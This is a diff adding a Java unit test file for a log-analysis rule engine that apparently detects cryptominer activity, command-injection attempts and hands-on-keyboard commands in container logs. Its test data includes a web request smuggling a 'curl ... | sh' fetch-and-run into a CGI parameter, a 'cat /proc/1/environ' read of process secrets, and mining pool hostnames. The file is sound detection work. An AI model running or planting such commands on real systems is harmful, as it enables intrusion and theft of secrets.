@@ -1,0 +1,115 @@
+package org.ephemera.analyze.command;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.command.Places.at;
+
+import java.time.Instant;
+import java.util.List;
+import java.util.Optional;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Gap;
+import org.ephemera.analyze.model.Indicator;
+import org.ephemera.analyze.model.LogLine;
+import org.ephemera.analyze.model.Severity;
+import org.junit.jupiter.api.Test;
+
+class LogRulesTest {
+    private static final String JOB = "net      new job from pool.example:3333 diff 120001 algo rx/0";
+
+    private final LogRules rules = new LogRules();
+
+    @Test
+    void putsTogetherWhatIsRepeated() {
+        for (int i = 0; i < 200_000; i++) {
+            line("app", i, JOB);
+        }
+        line("other", 3, JOB);
+        CommandFindings found = rules.findings();
+        assertThat(found.findings()).extracting(Finding::subject).containsExactly("app", "other");
+        Finding first = found.findings().getFirst();
+        assertThat(first.rule().id()).isEqualTo("LOG-001");
+        assertThat(first.severity()).isEqualTo(Severity.CRITICAL);
+        assertThat(first.because())
+                .isEqualTo("log: new job from pool.example:3333 diff 120001 algo rx/0"
+                        + " (the first of 200000 lines, from 1970-01-01T00:00:00Z to 1970-01-03T07:33:19Z)");
+        assertThat(first.evidence()).hasSize(10);
+        assertThat(first.at()).contains(Instant.EPOCH);
+        assertThat(found.findings().get(1).because()).doesNotContain("the first of");
+        assertThat(found.indicators()).extracting(Indicator::value).containsExactly("pool.example");
+        assertThat(found.gaps()).isEmpty();
+    }
+
+    @Test
+    void knowsTheFirstAndTheLastWhateverTheirOrder() {
+        line("app", 50, JOB);
+        rules.accept(new LogLine("app", "", Optional.empty(), JOB, at("log.json", "/events/7")));
+        line("app", 10, JOB);
+        assertThat(rules.findings().findings().getFirst().because())
+                .contains("the first of 3 lines, from 1970-01-01T00:00:10Z to 1970-01-01T00:00:50Z");
+    }
+
+    @Test
+    void takesARequestForAnAttempt() {
+        line("web", 1, "\"GET /cgi?x=;curl http://203.0.113.7/m|sh HTTP/1.1\" 404");
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactly("CMD-001 medium", "LOG-002 medium");
+        assertThat(rules.findings().findings().getFirst().because()).contains("an attempt");
+        assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
+    }
+
+    @Test
+    void tellsQueriesFromMiners() {
+        line("dns", 1, "[INFO] 10.0.1.5:40312 - 4711 \"A IN pool.supportxmr.com. udp 39\" NOERROR");
+        line("app", 2, "connecting to pool.supportxmr.com as x");
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.subject())
+                .containsExactly("NET-001 dns", "CMD-005 app");
+    }
+
+    @Test
+    void readsColouredLines() {
+        line(
+                "app",
+                1,
+                "\u001b[1;34mnet     \u001b[0m \u001b[35mnew job\u001b[0m from \u001b[1mpool.example:3333\u001b[0m diff \u001b[1m120001\u001b[0m");
+        assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("LOG-001");
+    }
+
+    @Test
+    void judgesWhatWasTypedInASessionAsCommands() {
+        LogLine typed = new LogLine(
+                "exec session 1",
+                "1",
+                Optional.of(Instant.EPOCH),
+                "# cat /proc/1/environ",
+                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message"));
+        rules.accept(typed);
+        line("app", 1, "cat /proc/1/environ");
+        List<Finding> findings = rules.findings().findings();
+        assertThat(findings)
+                .extracting(f -> f.rule().id() + " " + f.subject())
+                .containsExactly("CMD-010 exec session 1");
+        assertThat(findings.getFirst().because()).contains("hands-on-keyboard");
+    }
+
+    @Test
+    void boundsWhatManyContainersAndHitsCost() {
+        for (int i = 0; i < 5_000; i++) {
+            line("container " + i, i, JOB + " at http://a" + i + ".example/");
+        }
+        CommandFindings found = rules.findings();
+        assertThat(found.findings()).hasSize(2_000);
+        assertThat(found.indicators()).hasSize(500);
+        assertThat(found.gaps()).extracting(Gap::why).anyMatch(why -> why.startsWith("3000 more hits"));
+    }
+
+    private void line(String container, long second, String text) {
+        rules.accept(new LogLine(
+                container,
+                "",
+                Optional.of(Instant.ofEpochSecond(second)),
+                text,
+                at("log.json", "/events/" + second + "/message")));
+    }
+}
